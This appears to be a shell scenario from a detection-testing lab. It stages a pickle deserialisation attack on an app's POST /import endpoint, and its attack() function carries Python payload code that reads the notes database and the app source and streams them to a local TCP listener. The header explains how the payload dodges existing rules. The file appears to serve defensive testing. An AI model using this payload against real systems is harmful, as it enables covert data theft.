# Insecure deserialisation in the app: a "backup" posted to its restore (`POST /import`) is unpickled as it came,
# and the pickle rebuilds its object by calling exec() on the attacker's code — which runs inside the app's own
# process, in the thread serving the request: no shell, no program started, nothing written. The code reads the
# notes database and the app's own source, and sends them to a listener on the host over a new TCP connection:
# nothing a rule knows as bad (app-deserialize-inband takes the environment instead). The app restores its own backups now and then in its normal
# traffic, so the endpoint being used is normal (T1190, T1059.006, T1041).
IMAGE=app
normal() { app_traffic "$WEB_PORT" 60; }
host_setup() { sink_listener; }
attack() {
  app_unpickle "$WEB_PORT" "import socket
s = socket.create_connection(('127.0.0.1', $LISTEN_PORT))
for name in ('/srv/app/data/notes.db', '/srv/app/app.py'):
    with open(name, 'rb') as f:
        s.sendall(f.read())
s.close()"
}
host_cleanup() { listener_stop; }
